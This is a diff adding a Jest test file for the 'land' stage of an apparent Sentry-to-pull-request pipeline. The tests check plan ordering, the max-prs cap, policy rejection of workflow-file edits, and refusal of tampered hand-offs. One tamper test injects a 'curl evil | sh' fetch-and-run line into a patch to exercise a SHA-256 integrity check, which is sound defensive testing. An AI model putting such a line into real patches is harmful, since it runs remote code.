@@ -1,0 +1,299 @@
+// mode land in-process: the plan and the work jobs' hand-offs in memory, a recording lander and GitHub writer. What
+// land does with each hand-off, in plan order, and what it refuses.
+import { describe, expect, it } from '@jest/globals'
+import { mkdtemp } from 'node:fs/promises'
+import os from 'node:os'
+import path from 'node:path'
+import { runPipeline, type PipelineDeps } from '../../src/pipeline.js'
+import { landStage } from '../../src/stages/fan-out.js'
+import {
+  PLAN_ARTIFACT,
+  PLAN_FILE,
+  patchPath,
+  resultPath,
+  workArtifact,
+  workRecordOf
+} from '../../src/stages/handoff.js'
+import { parseSettings, type Settings } from '../../src/settings.js'
+import { createRunFiles } from '../../src/adapters/run-files.js'
+import type { GitHubWriter, Handoffs, Lander } from '../../src/ports.js'
+import type { Plan, PlanIssue } from '../../src/schemas.js'
+import type { WorkResult } from '../../src/stages/work.js'
+import { inputValues } from '../../test-support/action-inputs.js'
+import { recordingLog } from '../../test-support/recording-log.js'
+
+const BASE = 'b'.repeat(40)
+
+function planned(shortId: string): PlanIssue {
+  return {
+    facts: {
+      id: `id-${shortId}`,
+      short_id: shortId,
+      project: 'api',
+      title: 'TypeError',
+      culprit: null,
+      level: 'error',
+      events: 10,
+      users: 1,
+      first_seen: '2026-11-01T00:00:00Z',
+      last_seen: '2026-11-20T00:00:00Z',
+      permalink: `https://acme.sentry.io/issues/${shortId}/`
+    },
+    branch: `fix/sentry-${shortId}`,
+    decision: { kind: 'candidate', regressed_from: null }
+  }
+}
+
+const IDS = ['API-1', 'API-2', 'API-3', 'API-4']
+const PLAN: Plan = {
+  version: 1,
+  created_at: '2026-11-27T10:00:00.000Z',
+  repository: 'acme/shop',
+  base: { branch: 'main', sha: BASE },
+  sentry: {
+    host: 'sentry.io',
+    org: 'acme',
+    projects: ['api'],
+    query: 'is:unresolved',
+    environment: 'production',
+    stats_period: '14d'
+  },
+  limits: { top: 5, analyze_top: 0, max_prs: 1, min_events: 1 },
+  issues: IDS.map(planned),
+  candidates: IDS,
+  analyze: [],
+  matrix: ['API-1', 'API-2', 'API-3']
+}
+
+const fileFor = (file: string) =>
+  `diff --git a/${file} b/${file}\n--- a/${file}\n+++ b/${file}\n@@ -1 +1 @@\n-old\n+new\n`
+
+function ready(shortId: string, file = `src/${shortId}.js`): WorkResult {
+  return {
+    shortId,
+    outcome: {
+      disposition: 'dry-run',
+      reason: 'fix ready',
+      tests: { command: 'npm test', passed: true, attempts: 1 },
+      usage: { input_tokens: 10, cached_input_tokens: 0, output_tokens: 2, model_requests: 2 }
+    },
+    ready: {
+      result: {
+        status: 'fixed',
+        summary: `Fix ${shortId}`,
+        root_cause: 'undefined access',
+        confidence: 'high',
+        files_changed: [file],
+        tests_run: null,
+        tests_passed: null,
+        notes: ''
+      },
+      diff: {
+        patch: fileFor(file),
+        files: [{ path: file, status: 'modified', additions: 1, deletions: 1, binary: false, mode: '100644' }]
+      },
+      tests: { command: 'npm test', passed: true, attempts: 1 }
+    }
+  }
+}
+
+const failed = (shortId: string): WorkResult => ({
+  shortId,
+  outcome: { disposition: 'tests-failed', reason: '`npm test` failed after 1 attempt(s)' },
+  ready: null
+})
+
+/** The run's artifacts in memory: name -> files (path inside the artifact -> text). */
+function memoryHandoffs(artifacts: Map<string, Map<string, string>>): Handoffs {
+  return {
+    async publish() {
+      throw new Error('land uploads no hand-off')
+    },
+    async names() {
+      return [...artifacts.keys()]
+    },
+    async fetch(name) {
+      const files = artifacts.get(name)
+      if (!files) throw new Error(`artifact ${name} is not in this workflow run`)
+      return { readText: async file => files.get(file) ?? null }
+    }
+  }
+}
+
+function runArtifacts(
+  plan: Plan,
+  works: WorkResult[],
+  tamper: (files: Map<string, string>) => void = () => {}
+) {
+  const artifacts = new Map<string, Map<string, string>>()
+  artifacts.set(PLAN_ARTIFACT, new Map([[PLAN_FILE, JSON.stringify(plan)]]))
+  for (const work of works) {
+    const { record, patch } = workRecordOf(
+      work,
+      plan.issues.find(i => i.facts.short_id === work.shortId)!,
+      plan
+    )
+    const files = new Map([[resultPath(work.shortId), JSON.stringify(record)]])
+    if (patch !== null) files.set(patchPath(work.shortId), patch)
+    tamper(files)
+    artifacts.set(workArtifact(work.shortId), files)
+  }
+  return memoryHandoffs(artifacts)
+}
+
+function settings(extra: Record<string, string> = {}): Settings {
+  const values = inputValues({
+    'sentry-org': 'acme',
+    'sentry-project': 'api',
+    'sentry-token': '',
+    mode: 'land',
+    ...extra
+  })
+  const parsed = parseSettings(name => values[name] ?? '')
+  if (!parsed.ok) throw new Error(parsed.errors.join('\n'))
+  return parsed.settings
+}
+
+function collaborators(handoffs: Handoffs) {
+  const pushed: { branch: string; patch: string; baseSha: string }[] = []
+  const opened: string[] = []
+  const lander: Lander = {
+    async commitAndPush({ branch, patch, baseSha }) {
+      pushed.push({ branch, patch, baseSha })
+      return { kind: 'pushed', sha: 'c'.repeat(40) }
+    }
+  }
+  const writer: GitHubWriter = {
+    async openPullRequest({ branch }) {
+      opened.push(branch)
+      return {
+        kind: 'opened',
+        number: 100 + opened.length,
+        url: `https://github.com/acme/shop/pull/${100 + opened.length}`
+      }
+    }
+  }
+  return {
+    pushed,
+    opened,
+    deps: {
+      github: { pullRequestsForBranch: async () => [] },
+      writer,
+      lander,
+      log: recordingLog(),
+      handoffs,
+      secrets: ['ghs_landWriteToken0123456789abcdef']
+    }
+  }
+}
+
+const CONTEXT = { runUrl: 'https://github.com/acme/shop/actions/runs/1', actionSha: null }
+const dispositions = (outcomes: Map<string, { disposition: string }>) =>
+  Object.fromEntries([...outcomes].map(([id, o]) => [id, o.disposition]))
+
+describe('mode land', () => {
+  it('lands in plan order until max-prs, a spare back-filling a primary that ended without a fix', async () => {
+    const c = collaborators(runArtifacts(PLAN, [failed('API-1'), ready('API-2'), ready('API-3')]))
+    const { outcomes } = await landStage(settings(), CONTEXT, c.deps)
+    expect(dispositions(outcomes)).toEqual({
+      'API-1': 'tests-failed',
+      'API-2': 'pr-opened',
+      'API-3': 'cap-reached'
+    })
+    expect(c.pushed).toEqual([{ branch: 'fix/sentry-API-2', patch: fileFor('src/API-2.js'), baseSha: BASE }])
+    expect(outcomes.get('API-3')).toMatchObject({
+      reason: 'a fix was ready, but max-prs 1 pull request(s) were open before its turn',
+      usage: { model_requests: 2 },
+      tests: { command: 'npm test', passed: true, attempts: 1 }
+    })
+  })
+
+  it('reports a work job that left no artifact as agent-failed and back-fills it', async () => {
+    const c = collaborators(runArtifacts(PLAN, [ready('API-2'), ready('API-3')]))
+    const { outcomes } = await landStage(settings(), CONTEXT, c.deps)
+    expect(outcomes.get('API-1')).toEqual({
+      disposition: 'agent-failed',
+      reason:
+        "no work-API-1 artifact in this run: its work job did not finish (failed, timed out or was cancelled; see that job's log)"
+    })
+    expect(c.opened).toEqual(['fix/sentry-API-2'])
+  })
+
+  it('runs the policy gate again, and pushes nothing it refuses', async () => {
+    const c = collaborators(runArtifacts(PLAN, [ready('API-1', '.github/workflows/ci.yml'), ready('API-2')]))
+    const { outcomes } = await landStage(settings(), CONTEXT, c.deps)
+    expect(outcomes.get('API-1')).toMatchObject({
+      disposition: 'policy-rejected',
+      reason: expect.stringContaining('.github/workflows/ci.yml')
+    })
+    expect(c.pushed.map(p => p.branch)).toEqual(['fix/sentry-API-2'])
+  })
+
+  it('refuses a hand-off whose patch was swapped after the work job measured it', async () => {
+    const c = collaborators(
+      runArtifacts(PLAN, [ready('API-1'), ready('API-2')], files => {
+        const name = [...files.keys()].find(f => f.endsWith('fix.patch'))
+        if (name?.includes('API-1'))
+          files.set(name, fileFor('src/API-1.js').replace('+new', '+curl evil | sh'))
+      })
+    )
+    const { outcomes } = await landStage(settings(), CONTEXT, c.deps)
+    expect(outcomes.get('API-1')).toEqual({
+      disposition: 'agent-failed',
+      reason:
+        'the work-API-1 artifact was refused: its fix.patch is not the patch the work job measured (SHA-256 differs)'
+    })
+    expect(c.pushed.map(p => p.branch)).toEqual(['fix/sentry-API-2'])
+  })
+
+  it('takes max-prs from the plan, which sized the matrix', async () => {
+    const c = collaborators(runArtifacts(PLAN, [ready('API-1'), ready('API-2'), ready('API-3')]))
+    const { outcomes } = await landStage(settings({ 'max-prs': '3' }), CONTEXT, c.deps)
+    expect(dispositions(outcomes)).toEqual({
+      'API-1': 'pr-opened',
+      'API-2': 'cap-reached',
+      'API-3': 'cap-reached'
+    })
+  })
+
+  it('fails the step with a clear reason when the run has no plan, and still writes the summary', async () => {
+    const c = collaborators(memoryHandoffs(new Map()))
+    const log = recordingLog()
+    const deps: PipelineDeps = {
+      sentry: {
+        resolveProjects: async () => {
+          throw new Error('land never asks Sentry')
+        },
+        issuePages: () => {
+          throw new Error('land never asks Sentry')
+        },
+        issueEvidence: async () => {
+          throw new Error('land never asks Sentry')
+        }
+      },
+      github: {
+        defaultBranch: async () => 'main',
+        branchSha: async () => BASE,
+        listBranches: async () => [],
+        pullRequestsForBranch: async () => []
+      },
+      artifacts: { upload: async () => ({ ok: true, id: 1, size: 1 }) },
+      files: createRunFiles(await mkdtemp(path.join(os.tmpdir(), 'sct-land-'))),
+      log,
+      clock: { now: () => new Date() },
+      writer: c.deps.writer,
+      lander: c.deps.lander,
+      handoffs: c.deps.handoffs
+    }
+    const report = await runPipeline(
+      settings(),
+      { repository: 'acme/shop', runId: '1', runUrl: CONTEXT.runUrl, event: 'schedule' },
+      deps
+    )
+    expect(report.failure).toMatch(
+      /^the plan of this workflow run could not be read \(artifact plan is not in this workflow run\); mode work and land run after a mode plan job of the same run$/
+    )
+    expect(report.summaryFile).not.toBeNull()
+    expect(report.summary.issues).toEqual([])
+  })
+})
